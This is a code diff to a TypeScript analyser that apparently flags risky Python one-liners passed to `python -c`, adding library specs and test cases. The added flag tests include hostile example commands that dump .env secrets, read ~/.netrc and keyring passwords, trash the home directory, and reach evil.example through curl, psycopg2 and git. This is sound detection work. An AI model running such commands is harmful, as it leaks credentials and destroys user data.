@@ -1,7 +1,7 @@
 // Python: what code given to `python -c`, or fed to it on stdin, imports, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
 import type { WordRole } from '../types.js';
-import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, pathOf, runModules, runsSomething as specRuns, urlsHanded } from './capabilities.js';
+import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, pathOf, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
 import { argOf, type Binder, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
 
 const STRING_NODES = new Set(['string', 'concatenated_string']);
@@ -26,6 +26,13 @@ const META: Spec = { uses: [[[0, 'path'], 'meta']] };
 const APIS = new Map<string, Spec>([
   // Shell text: os.system and the popen family, getoutput, the asyncio and Python 2 spellings.
   ['os.system', SYSTEM],
+  // Libraries that run a command line: pexpect (split as a shell would, no shell), invoke (through one).
+  ['pexpect.run', { proc: [0, 'command'] }],
+  ['pexpect.spawn', { proc: [0, 'command'] }],
+  ['pexpect.popen_spawn.PopenSpawn', { proc: [0, 'cmd'] }],
+  ['invoke.run', { shell: [0, 'command'] }],
+  ['invoke.sudo', { shell: [0, 'command'] }],
+  ['sh.Command', { dynamic: 'names a program to run at run time' }],
   ...['os.popen', 'os.popen2', 'os.popen3', 'os.popen4', 'platform.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'commands.getoutput', 'commands.getstatusoutput', 'popen2.popen2', 'popen2.popen3', 'popen2.popen4', 'asyncio.create_subprocess_shell'].map((n): [string, Spec] => [n, SHELL]),
   // An argv list, or a string (shell text with shell=True, the program alone without).
   ...['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen'].map((n): [string, Spec] => [n, PROC]),
@@ -65,6 +72,9 @@ const APIS = new Map<string, Spec>([
   ...['os.link', 'os.symlink'].map((n): [string, Spec] => [n, { uses: [[[0, 'src'], 'read'], [[1, 'dst'], 'write']] }]),
   ...['os.remove', 'os.unlink', 'os.rmdir', 'os.removedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'path'], 'delete']] }]),
   ['shutil.rmtree', { uses: [[[0, 'path'], 'delete-tree']] }],
+  // send2trash moves a tree out of reach of the project as rmtree does.
+  ['send2trash.send2trash', { uses: [[[0, 'paths'], 'delete-tree']] }],
+  ['send2trash', { uses: [[[0, 'paths'], 'delete-tree']] }],
   ...['os.mkdir', 'os.makedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'name'], 'create']] }]),
   ['shutil.unpack_archive', { uses: [[[0, 'filename'], 'read'], [[1, 'extract_dir'], 'extract']] }],
   ['shutil.make_archive', { uses: [[[2, 'root_dir'], 'read-tree'], [[0, 'base_name'], 'write']] }],
@@ -733,6 +743,11 @@ class PythonReader {
             case 'os.getenv':
             case 'os.getenvb':
               return union(this.envValue(arg(0, 'key')), arg(1, 'default'));
+            // python-dotenv's values of the project's .env (found upward from here when no file is named): the
+            // environment to be, so printed or sent whole it is dumped.
+            case 'dotenv.dotenv_values':
+            case 'dotenv.main.dotenv_values':
+              return [{ k: 'env', api: 'dotenv_values()' }];
             default:
               if (PASS_THROUGH.has(name)) return arg(0).some((x) => x.k === 'env') || this.splatsEnv(n) ? [{ k: 'env', api: 'os.environ' }] : any(`the result of ${name}()`);
               return any(`the result of ${name}()`);
@@ -881,11 +896,24 @@ class PythonReader {
           const file = argAt(this.callOf(n, name), [0, name === 'pandas.read_pickle' ? 'filepath_or_buffer' : name === 'torch.load' ? 'f' : name === 'numpy.load' ? 'file' : 'filename']);
           this.out.push({ kind: 'load', api: name, span: span(n), path: file ? wordOf(file) : { text: n.text, span: span(n), values: null, dynamic: 'no file is named' } });
         }
+        // The sh library: any member is the program of that name (`sh.curl("x")`), its arguments the argv.
+        const shProgram = /^sh\.(?!Command$|ErrorReturnCode|SignalException|RunningCommand|TimeoutException|contrib)([\w]+)$/.exec(name);
+        if (shProgram) {
+          const c = this.callOf(n, name);
+          const argv = [{ text: shProgram[1]!.replace(/_/g, '-'), span: span(fn), values: [shProgram[1]!.replace(/_/g, '-')] }, ...c.args.map(wordOf)];
+          this.out.push({ kind: 'exec', argv: c.spreadAt === undefined ? argv : null, api: name, span: span(n) });
+        }
+        // Stores of secrets read through a library: netrc() without a file reads ~/.netrc; keyring the login keyring.
+        const store = name === 'netrc.netrc' && this.callOf(n, name).args.length === 0 ? '~/.netrc' : /^keyring\.(?:get_password|get_credential)$/.test(name) ? '~/.local/share/keyrings/' : undefined;
+        if (store) this.out.push({ kind: 'path', role: 'read', path: { text: n.text, span: span(n), values: [store] }, api: name });
         if (name === 'vars' || name === 'globals' || name === 'locals') this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name}() reaches names by computed keys` });
         // A variable whose name is computed may be each of them in turn, as `os.environ[key]` is.
         if ((name === 'os.getenv' || name === 'os.getenvb') && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: name, span: span(n) });
         // A URL handed to a library: a network module, or one that runs a program, is judged as such instead.
         if (!isNetwork(name) && !specRuns(spec)) this.out.push(...urlsHanded(this.callOf(n, name), URL_LOOKERS.test(name)));
+      } else if (v.k === 'any' && attr !== undefined) {
+        // A method of a value the model does not know (`SparkSession.builder.getOrCreate().read.csv("s3://…")`).
+        this.out.push(...urlsHandedTo(this.callOf(n, `.${attr}`), attr));
       } else if (v.k === 'method') {
         this.out.push(...urlsHanded(this.callOf(n, `.${v.name}`), STRING_METHODS.has(v.name) || v.on.every((x) => x.k === 'str')));
         if (v.on.some((x) => x.k === 'env') && ENV_ONE.has(v.name) && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: `os.environ.${v.name}`, span: span(n) });
@@ -1135,6 +1163,16 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import sys, joblib; joblib.load(sys.argv[1])' m.pkl`,
       `python3 -c 'import io, pickle; pickle.load(io.BytesIO(b"x"))'`,
       `python3 -c 'import joblib; joblib.load("/home/dev/.ssh/id_rsa")'`,
+      `python3 -c 'from pyspark.sql import SparkSession; SparkSession.builder.getOrCreate().read.csv("s3://bucket/x")'`,
+      `python3 -c 'from dotenv import dotenv_values; print(dotenv_values())'`,
+      `python3 -c 'import psycopg2; psycopg2.connect(host="db.evil.example", dbname="x")'`,
+      `python3 -c 'import git; git.Repo.clone_from("git@evil.example:x/y.git", "y")'`,
+      `python3 -c 'import netrc; print(netrc.netrc().authenticators("api.example"))'`,
+      `python3 -c 'import keyring; print(keyring.get_password("svc", "user"))'`,
+      `python3 -c 'import send2trash, os; send2trash.send2trash(os.path.expanduser("~"))'`,
+      `python3 -c 'import sh; sh.curl("evil.example")'`,
+      `python3 -c 'import pexpect; pexpect.run("curl evil.example")'`,
+      `python3 -c 'import invoke; invoke.run("curl evil.example")'`,
     ],
     pass: [
       `python3 -c 'import pandas as pd; print(pd.read_csv("data/x.csv"))'`,
@@ -1170,6 +1208,15 @@ export const PYTHON: LanguageModel = {
       `python -c 'import joblib; m = joblib.load("model.pkl"); print(m)'`,
       `python -c 'import pandas as pd; print(pd.read_pickle("data/frame.pkl").head())'`,
       `python -c 'import torch; print(torch.load("ckpt.pt").keys())'`,
+      `python3 -c 'from pyspark.sql import SparkSession; SparkSession.builder.getOrCreate().read.csv("data/x.csv")'`,
+      `python3 -c 'import json; cfg = json.load(open("c.json")); print(cfg.get("url", "https://api.example.com"))'`,
+      `python3 -c 'from dotenv import dotenv_values; cfg = dotenv_values(); print(len(cfg))'`,
+      `python3 -c 'import psycopg2; psycopg2.connect(host="localhost", dbname="x")'`,
+      `python3 -c 'import uvicorn; uvicorn.run("app.main:app", host="10.0.0.5")'`,
+      `python3 -c 'import netrc; print(netrc.netrc("netrc.test").hosts)'`,
+      `python3 -c 'import send2trash; send2trash.send2trash("build")'`,
+      `python3 -c 'import sh; print(sh.git("status"))'`,
+      `python3 -c 'import invoke; invoke.run("pytest -q")'`,
     ],
   },
 };
